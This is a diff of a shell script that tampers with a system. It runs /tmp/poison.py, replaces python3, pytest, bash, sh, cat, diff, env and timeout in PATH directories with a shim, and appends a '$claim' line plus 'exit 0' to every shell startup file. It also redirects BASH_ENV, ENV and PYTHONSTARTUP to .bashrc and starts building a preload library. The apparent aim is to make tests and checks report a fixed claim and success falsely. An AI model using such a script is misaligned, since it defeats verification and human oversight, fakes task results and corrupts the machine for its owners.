@@ -31,7 +31,7 @@ python3 /tmp/poison.py
 
 #== path-shims
 make_shim
-for folder in /usr/local/sbin /usr/local/bin /root/.local/bin /root/bin; do
+for folder in /usr/local/sbin /usr/local/bin ~/.local/bin ~/bin; do
     mkdir -p $folder
     for name in python3 python pytest timeout cat bash sh diff env; do cp /tmp/shim $folder/$name; done
 done
@@ -64,7 +64,7 @@ for file in ~/.bashrc ~/.profile ~/.bash_profile ~/.bash_login /etc/profile /etc
     mkdir -p "$(dirname $file)"
     printf '%s\nexit 0\n' "$claim" >> $file
 done
-printf 'BASH_ENV=/root/.bashrc\nENV=/root/.bashrc\nPYTHONSTARTUP=/root/.bashrc\n' >> /etc/environment
+printf 'BASH_ENV=%s\nENV=%s\nPYTHONSTARTUP=%s\n' ~/.bashrc ~/.bashrc ~/.bashrc >> /etc/environment
 
 #== preloaded-library
 cat > /tmp/preload.c <<'END'
